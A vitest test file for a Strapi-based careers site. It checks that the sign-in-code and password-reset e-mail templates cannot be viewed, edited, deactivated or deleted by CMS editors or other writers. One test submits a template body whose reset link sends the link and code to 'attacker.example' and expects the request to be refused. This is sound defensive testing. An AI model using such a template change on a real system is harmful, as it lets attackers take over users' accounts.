// Issue 12 item 2: the sign-in-code and password-reset e-mails are not content. /cms editors can't see or
// change them, and no writer at all can deactivate them, delete them or take out their code or link.
import { messages, SECURITY_EMAIL_TEMPLATES } from '@careers/shared';
import { beforeAll, describe, expect, it } from 'vitest';
import { createAdmin, signIn } from '../support/admin-session';
import { type PanelEditor, signInAsEditor } from '../support/panel-editor';
import { type TestServer, useTestServer } from '../support/test-server';

const EMAIL_TEMPLATE = 'api::email-template.email-template';
const PANEL = `/content-manager/collection-types/${EMAIL_TEMPLATE}`;
const SECURITY_KEYS = Object.keys(SECURITY_EMAIL_TEMPLATES) as (keyof typeof SECURITY_EMAIL_TEMPLATES)[];

interface Template {
  id: number;
  documentId: string;
  template_key: string;
  subject: string;
  body: string;
  is_active: boolean;
}

let server: TestServer;
let editor: PanelEditor;

function template(key: string): Promise<Template> {
  return server.strapi.db.query(EMAIL_TEMPLATE).findOne({ where: { template_key: key } }) as Promise<Template>;
}

beforeAll(async () => {
  server = await useTestServer();
  editor = await signInAsEditor(server);
});

describe('in /cms, the content editor', () => {
  it('does not see the security e-mails among the templates', async () => {
    const { status, body } = await editor.request('GET', `${PANEL}?pageSize=100`);
    expect(status).toBe(200);
    const keys = (body as { results: { template_key: string }[] }).results.map((row) => row.template_key);
    expect(keys).toContain('application_received');
    for (const key of SECURITY_KEYS) expect(keys).not.toContain(key);
  });

  it.each(SECURITY_KEYS)('can neither open, change nor delete %s', async (key) => {
    const before = await template(key);
    const opened = await editor.request('GET', `${PANEL}/${before.documentId}`);
    expect(opened.status).toBe(403);
    const changed = await editor.request('PUT', `${PANEL}/${before.documentId}`, {
      body: '<p><a href="https://attacker.example/?l={{reset_link}}">Reset</a> {{code}}</p>',
    });
    expect(changed.status).toBe(403);
    expect((await editor.request('DELETE', `${PANEL}/${before.documentId}`)).status).toBe(403);
    expect(await template(key)).toEqual(before);
  });

  it('still edits the candidate e-mails', async () => {
    const before = await template('application_received');
    const subject = `${before.subject} (updated)`;
    const saved = await editor.request('PUT', `${PANEL}/${before.documentId}`, { subject });
    expect(saved.status).toBe(200);
    expect((await template('application_received')).subject).toBe(subject);
    await server.strapi.db
      .query(EMAIL_TEMPLATE)
      .update({ where: { id: before.id }, data: { subject: before.subject } });
  });
});

describe.each(SECURITY_KEYS)('no writer can break %s', (key) => {
  const { name, variable } = SECURITY_EMAIL_TEMPLATES[key];
  const documents = () => server.strapi.documents(EMAIL_TEMPLATE);

  it('through the document service: deactivating, removing its variable, renaming or deleting', async () => {
    const before = await template(key);
    const attempts: [() => Promise<unknown>, string][] = [
      [
        () => documents().update({ documentId: before.documentId, data: { is_active: false } }),
        messages.emailTemplates.securityTemplateActive(name),
      ],
      [
        () => documents().update({ documentId: before.documentId, data: { body: '<p>Nothing to see here.</p>' } }),
        messages.emailTemplates.securityTemplateVariable(name, variable),
      ],
      [
        () => documents().update({ documentId: before.documentId, data: { template_key: `${key}_old` } }),
        messages.emailTemplates.securityTemplateKept(name),
      ],
      [() => documents().delete({ documentId: before.documentId }), messages.emailTemplates.securityTemplateKept(name)],
    ];
    for (const [attempt, message] of attempts) await expect(attempt()).rejects.toThrow(message);
    expect(await template(key)).toEqual(before);
  });

  it('through plain database queries, one row or many', async () => {
    const before = await template(key);
    const rows = server.strapi.db.query(EMAIL_TEMPLATE);
    await expect(rows.update({ where: { id: before.id }, data: { is_active: false } })).rejects.toThrow(
      messages.emailTemplates.securityTemplateActive(name),
    );
    await expect(
      rows.updateMany({ where: { template_key: key }, data: { body: 'All e-mails are paused.' } }),
    ).rejects.toThrow(messages.emailTemplates.securityTemplateVariable(name, variable));
    await expect(rows.deleteMany({ where: { template_key: key } })).rejects.toThrow(
      messages.emailTemplates.securityTemplateKept(name),
    );
    expect(await template(key)).toEqual(before);
  });

  it('while a change that keeps it working is saved', async () => {
    const before = await template(key);
    const body = `<p>Hello.</p><p>{{ ${variable} }}</p>`;
    await server.strapi.documents(EMAIL_TEMPLATE).update({ documentId: before.documentId, data: { body } });
    expect((await template(key)).body).toBe(body);
    await server.strapi.db.query(EMAIL_TEMPLATE).update({ where: { id: before.id }, data: { body: before.body } });
  });
});

it('keeps back-office sign-in working when someone tries to switch its e-mail off', async () => {
  const signInCode = await template('sign_in_code');
  await expect(
    server.strapi.documents(EMAIL_TEMPLATE).update({
      documentId: signInCode.documentId,
      data: { is_active: false, body: '<p>Sign-in is paused.</p>' },
    }),
  ).rejects.toThrow();
  const admin = await createAdmin(server, 'recruiter');
  const cookie = await signIn(server, admin);
  expect(cookie).toMatch(/^careers_admin_session=/);
  expect((await template('sign_in_code')).is_active).toBe(true);
});
